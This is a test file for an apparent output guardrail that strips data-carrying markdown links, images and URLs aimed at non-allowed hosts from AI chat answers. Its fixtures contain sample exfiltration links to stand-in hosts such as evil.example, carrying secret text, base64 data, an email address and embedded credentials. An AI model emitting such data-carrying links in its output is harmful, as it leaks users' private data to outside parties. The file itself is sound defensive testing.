"""The output-side exfiltration guard: data-carrying links to hosts not allowed are removed, streaming included."""

from __future__ import annotations

import pytest

from core.errors import InvalidInput
from guardrails.links import carries_data, is_exfil_url, normalize_hosts, strip_exfil_links
from guardrails.selectors import guardrail_policy_get
from guardrails.services import guardrail_policy_update, inspect_output
from tests.api_harness import api_call, api_keys, assert_error_body  # noqa: F401  (api_keys: a fixture)

ALLOWED = ["intranet.example.com", "*.wiki.example.org"]

ANSWER = (
    "Here is the summary. ![chart](https://evil.example/c.png?d=SECRET%20DATA) See [the handbook]"
    "(https://intranet.example.com/handbook?section=3) and [details](https://evil.example/"
    "aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh).\n"
    "Plain: https://evil.example/?q=alice@example.com, ok: https://evil.example/docs. "
    "<https://evil.example/x?y=2>\n"
    "[ref]: https://evil.example/p?x=1\n"
    '<img src="https://evil.example/i?d=2"> [home](https://evil.example/) [rel](/docs?a=1) '
    "[team](https://team.wiki.example.org/page?id=7) ![logo](https://evil.example/a(b)c?x=1) "
    "[mail](mailto:hr@example.com?subject=Leave)"
)
EXPECTED = (
    "Here is the summary. [image: chart] See [the handbook](https://intranet.example.com/handbook?section=3) and "
    "details.\n"
    "Plain: [link removed], ok: https://evil.example/docs. [link removed]\n"
    "[ref]: [link removed]\n"
    '<img src=""> [home](https://evil.example/) [rel](/docs?a=1) '
    "[team](https://team.wiki.example.org/page?id=7) [image: logo] [mail](mailto:hr@example.com?subject=Leave)"
)


def test_data_carrying_links_to_other_hosts_are_removed():
    result = strip_exfil_links(ANSWER, allowed_hosts=ALLOWED)
    assert result.text == EXPECTED
    assert result.removed == 7
    assert "SECRET" not in result.text and "alice@example.com" not in result.text


@pytest.mark.parametrize(
    ("url", "exfil"),
    [
        ("https://evil.example/?q=1", True),
        ("https://evil.example/#data=abc", True),
        ("https://user:pw@evil.example/", True),
        ("//evil.example/p?x=1", True),
        ("HTTPS://EVIL.EXAMPLE/P?X=1", True),
        ("https://evil.example/" + "a" * 30, True),
        ("https://evil.example/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z", True),
        ("https://evil.example/", False),
        ("https://evil.example/docs/guide", False),
        ("https://intranet.example.com/search?q=leave", False),
        ("https://sub.intranet.example.com/search?q=leave", False),
        ("https://intranet.example.com.evil.example/?q=1", True),
        ("https://notintranet.example.com/?q=1", True),
        ("/relative?q=1", False),
        ("mailto:a@example.com?body=x", False),
    ],
)
def test_what_counts_as_exfiltration(url, exfil):
    assert is_exfil_url(url, normalize_hosts(["intranet.example.com"])) is exfil


def test_carries_data_and_host_normalisation():
    assert carries_data("https://a.example/x?y") and not carries_data("https://a.example/short/path")
    assert normalize_hosts(["https://Intranet.Example.com:8443/x", "*.wiki.example.org", " "]) == {
        "intranet.example.com",
        "wiki.example.org",
    }


def test_no_allowed_hosts_removes_every_data_link_but_keeps_plain_ones():
    text = "See [docs](https://docs.example.com/guide) and [search](https://docs.example.com/s?q=secret)."
    assert strip_exfil_links(text, allowed_hosts=[]).text == "See [docs](https://docs.example.com/guide) and search."


def test_inspect_output_removes_exfil_links_and_honours_the_department(world, analyzer):
    text = "Done. ![p](https://collector.example/p.png?d=Q3-numbers) [Wiki](https://wiki.corp.example/page?id=1)"
    verdict = inspect_output(
        tenant=world.tenant, scope_key="conversation:9", text=text, user_text="", canary="", sources=[]
    )
    assert "collector.example" not in verdict.text
    assert "wiki.corp.example" not in verdict.text
    assert any("links carrying data" in r for r in verdict.reasons)
    guardrail_policy_update(tenant=world.tenant, link_hosts=["https://Wiki.Corp.Example/"])
    allowed = inspect_output(
        tenant=world.tenant, scope_key="conversation:9", text=text, user_text="", canary="", sources=[]
    )
    assert "[Wiki](https://wiki.corp.example/page?id=1)" in allowed.text
    other = inspect_output(
        tenant=world.other_tenant, scope_key="conversation:9", text=text, user_text="", canary="", sources=[]
    )
    assert "wiki.corp.example" not in other.text  # another department's allowance does not apply


def test_link_hosts_are_validated(world):
    with pytest.raises(InvalidInput, match="not a host name"):
        guardrail_policy_update(tenant=world.tenant, link_hosts=["evil example/?"])
    with pytest.raises(InvalidInput, match="list of host names"):
        guardrail_policy_update(tenant=world.tenant, link_hosts="intranet.example.com")  # type: ignore[arg-type]


def test_link_hosts_through_the_policy_api(world, api_keys):  # noqa: F811
    key = api_keys["admin"]
    response = api_call("patch", "/api/v1/guardrail-policy/", key=key, body={"link_hosts": ["Wiki.Corp.Example"]})
    assert response.status_code == 200, response.json_body
    assert response.json_body["link_hosts"] == ["wiki.corp.example"]
    assert guardrail_policy_get(tenant=world.tenant).link_hosts == ("wiki.corp.example",)
    assert guardrail_policy_get(tenant=world.other_tenant).link_hosts == ()
    bad = api_call("patch", "/api/v1/guardrail-policy/", key=key, body={"link_hosts": ["not a host/?"]})
    assert_error_body(bad, 400)
    assert "not a host name" in bad.json_body["message"]
    assert_error_body(
        api_call("patch", "/api/v1/guardrail-policy/", key=api_keys["member"], body={"link_hosts": ["x.example"]}), 403
    )
    put = {"entity_actions": {}, "injection_strictness": "medium", "custom_recognizers": [], "deny_lists": {}}
    assert api_call("put", "/api/v1/guardrail-policy/", key=key, body=put).status_code == 200
    assert guardrail_policy_get(tenant=world.tenant).link_hosts == ()  # PUT without the field: back to none
